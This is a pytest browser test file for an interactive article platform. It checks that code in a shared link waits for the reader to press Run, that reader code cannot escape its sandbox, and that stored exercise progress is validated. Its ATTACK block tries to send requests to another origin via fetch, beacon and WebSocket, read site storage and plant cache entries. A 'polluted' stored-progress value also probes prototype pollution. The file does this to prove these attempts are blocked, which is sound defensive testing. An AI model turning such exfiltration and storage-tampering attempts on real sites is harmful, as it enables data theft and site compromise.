"""A stranger's input in Chromium (issue 31): a link's code never runs unasked, a reader's
code cannot touch the site (its storage, the page, another origin), and stored exercise
progress is checked before it is used."""

from __future__ import annotations

import base64
import http.server
import json
import textwrap
import threading
import time

import pytest

from .conftest import article_served, poll, press_run

pytestmark = pytest.mark.browser

ARTICLE = """---
title: Strangers
date: 2026-12-01
---

```python run
#| id: first
scale = 1
```

```python run
#| id: knobs
#| controls:
#|   lr: {min: 0.1, max: 0.5, step: 0.1}
#|   mode: {options: [up, down, flat]}
lr = 0.2
mode = "up"
print("author", lr, mode, scale)
```

```python run
#| id: bare
#| keyframes: false
#| controls:
#|   lr: {min: 0.1, max: 0.5, step: 0.1}
#|   steps: {min: 1, max: 9}
lr = 0.2
steps = 3
print("author", lr, steps)
```

```exercise
id: grad
prompt: Write the gradient of $x^2 y$ as `gradient(x, y)`.
gradient_of: x**2*y
hints:
  - Hold $y$ fixed.
  - Then hold $x$ fixed.
solution: |
  def gradient(x, y):
      return 2*x*y, x**2
```
"""


@pytest.fixture(scope="module")
def strangers_site(tmp_path_factory):
    with article_served(tmp_path_factory, "strangers", ARTICLE) as (_, url):
        yield url


class Counting(http.server.BaseHTTPRequestHandler):
    """Another origin: it counts every request that reaches it."""

    seen: list[str]

    def do_GET(self):
        self.seen.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_HEAD = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture
def other_origin():
    handler = type("Handler", (Counting,), {"seen": []})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", handler.seen
    server.shutdown()


def encoded(code: str) -> str:
    return base64.urlsafe_b64encode(code.encode()).decode().rstrip("=")


def answered(page, cell: str, timeout: float = 120) -> str:
    """Wait until ``cell``'s controls are answered, by a run or from keyframes: how."""
    return poll(page, f"() => window.__answered_{cell}", timeout)


LINKED = "lr = 0.2\nmode = 'up'\nsteps = 3\nprint('LINKED CODE RAN')\n"


@pytest.mark.parametrize(
    ("cell", "query"),
    [
        ("knobs", "knobs.lr=0.4&knobs.mode=down"),  # two controls moved: no keyframe
        ("knobs", "knobs.lr=0.35"),  # off the slider's steps
        ("knobs", "knobs.mode=flat"),  # a select
        ("bare", "bare.lr=0.3&bare.steps=7"),  # no keyframes at all
    ],
)
def test_linked_code_waits_for_run(page, strangers_site, cell, query):
    for event in ("drawn", "keyframe"):
        page.add_init_script(
            f"document.addEventListener('downhill:{event}', (e) => {{ if (e.target.id === "
            f"'{cell}') window.__answered_{cell} = '{event}'; }}, true);"
        )
    page.goto(f"{strangers_site}?{query}&{cell}.code={encoded(LINKED)}#{cell}")
    # The link's code fills the editor and waits; the controls' state runs the author's code.
    poll(page, f"() => document.querySelector('#{cell} .cm-content')")
    assert "LINKED CODE RAN" in page.inner_text(f"#{cell} .cm-content")
    how = answered(page, cell)
    output = page.inner_text(f"#{cell} .cell-output")
    assert "author" in output
    assert "LINKED CODE RAN" not in output
    if how == "drawn":
        status = page.inner_text(f"#{cell} .cell-status")
        assert "Run runs the edited code from the link" in status
    time.sleep(1)  # nothing queued behind it runs the linked code either
    assert "LINKED CODE RAN" not in page.inner_text(f"#{cell} .cell-output")
    # Asked, it runs.
    answer = press_run(page, cell)
    assert "LINKED CODE RAN" in answer["output"]["stdout"]


ATTACK = """
import js
results = {}
def attempt(name, action):
    try:
        value = action()
        results[name] = "allowed: " + str(value)[:60]
    except Exception as exc:
        results[name] = "refused: " + type(exc).__name__
def xhr(url):
    request = js.XMLHttpRequest.new()
    request.open("GET", url, False)
    request.send()
    return request.status
attempt("caches", lambda: js.caches.open("downhill-offline"))
attempt("indexedDB", lambda: js.indexedDB.open("stolen"))
attempt("document", lambda: js.document.body)
attempt("localStorage", lambda: js.localStorage.getItem("x"))
attempt("xhr other origin", lambda: xhr(OTHER + "/xhr"))
attempt("xhr site", lambda: xhr(SITE))
attempt("importScripts", lambda: js.importScripts(OTHER + "/script.js"))
attempt("websocket", lambda: js.WebSocket.new(OTHER.replace("http", "ws") + "/ws"))
attempt("event source", lambda: js.EventSource.new(OTHER + "/events"))
attempt("beacon", lambda: js.navigator.sendBeacon(OTHER + "/beacon", "x"))
# Asynchronous attempts: the test checks that none arrives, and that nothing is planted.
def plant(cache):
    return cache.put(SITE + "planted", js.Response.new("planted"))
for name in ("downhill-offline", "mine"):
    try:
        js.caches.open(name).then(plant)
    except Exception:
        pass
js.fetch(OTHER + "/through-the-page")
js.Object.getPrototypeOf(js.self).fetch.call(js.self, OTHER + "/raw-fetch")
attempt("nested worker", lambda: js.Worker.new(OTHER + "/worker.js"))
for name, result in results.items():
    print(name, "=", result)
"""


def test_a_readers_code_cannot_touch_the_site(page, strangers_site, other_origin):
    other, seen = other_origin
    page.goto(strangers_site)
    page.evaluate(
        "async () => { localStorage.setItem('mine', 'kept');"
        " await (await caches.open('downhill-offline')).put('/kept', new Response('mine')); }"
    )
    before = page.evaluate(
        "async () => ({caches: await caches.keys(), keys: Object.keys(localStorage),"
        " dbs: (await indexedDB.databases()).map((d) => d.name), title: document.title})"
    )
    code = f"OTHER = {other!r}\nSITE = {strangers_site!r}\n" + textwrap.dedent(ATTACK)
    page.goto(f"{strangers_site}?first.code={encoded(code)}#first")
    poll(page, "() => document.querySelector('#first .cm-content')")
    answer = press_run(page, "first")
    printed = dict(
        line.split(" = ", 1) for line in answer["output"]["stdout"].splitlines() if " = " in line
    )
    for name in (
        "caches",
        "indexedDB",
        "document",
        "localStorage",
        "xhr other origin",
        "xhr site",
        "importScripts",
        "nested worker",
    ):
        assert printed[name].startswith("refused"), (name, printed)
    time.sleep(2)  # the asynchronous attempts have had their chance
    assert seen == [], seen
    after = page.evaluate(
        "async () => ({caches: await caches.keys(), keys: Object.keys(localStorage),"
        " dbs: (await indexedDB.databases()).map((d) => d.name), title: document.title})"
    )
    assert after == before
    kept = page.evaluate(
        "async () => (await (await caches.open('downhill-offline')).match('/kept')).text()"
    )
    assert kept == "mine"
    planted = page.evaluate(
        "async (url) => Promise.all((await caches.keys()).map(async (name) =>"
        " Boolean(await (await caches.open(name)).match(url))))",
        f"{strangers_site}planted",
    )
    assert not any(planted)


@pytest.mark.parametrize(
    "stored",
    [
        {"grad": {"hints": 1e10}},
        5,
        "text",
        [1, 2],
        {"grad": {"hints": -3, "solved": "yes", "code": 7}},
        {"grad": {"hints": 1.5, "solution": 1}, "__proto__": {"polluted": True}},
    ],
)
def test_stored_progress_is_checked(page, strangers_site, stored):
    key = "downhill:exercises:/strangers/"
    page.add_init_script(f"localStorage.setItem({key!r}, {json.dumps(json.dumps(stored))});")
    started = time.monotonic()
    page.goto(strangers_site)
    poll(page, "() => window.downhill && window.downhill.exercises.length === 1", 30)
    assert time.monotonic() - started < 20  # no loop over a stored count
    shown = page.evaluate("() => document.querySelectorAll('#grad .exercise-hints li').length")
    assert shown <= 2
    assert page.evaluate("() => document.querySelector('#grad').dataset.progress") is None
    assert page.evaluate("() => ({}).polluted") is None
    # Check still grades.
    page.evaluate(
        "() => { window.__graded = null; const el = document.querySelector('#grad');"
        "el.addEventListener('downhill:graded', (e) => { window.__graded = e.detail; });"
        "document.querySelector('#grad .exercise-edit').click(); }"
    )
    poll(page, "() => document.querySelector('#grad .cm-content')")
    page.click("#grad .cm-content")
    page.keyboard.press("Control+a")
    page.keyboard.insert_text("def gradient(x, y):\n    return 2*x*y, x**2\n")
    page.click("#grad .exercise-check")
    verdict = poll(page, "() => window.__graded", 120)
    assert verdict["passed"]
    assert json.loads(page.evaluate(f"() => localStorage.getItem({key!r})"))["grad"]["solved"]


def test_hints_clamp_to_the_exercise(page, strangers_site):
    key = "downhill:exercises:/strangers/"
    page.add_init_script(f'localStorage.setItem({key!r}, \'{{"grad": {{"hints": 50}}}}\');')
    page.goto(strangers_site)
    poll(page, "() => window.downhill && window.downhill.exercises.length === 1", 30)
    assert page.evaluate("() => document.querySelectorAll('#grad .exercise-hints li').length") == 2
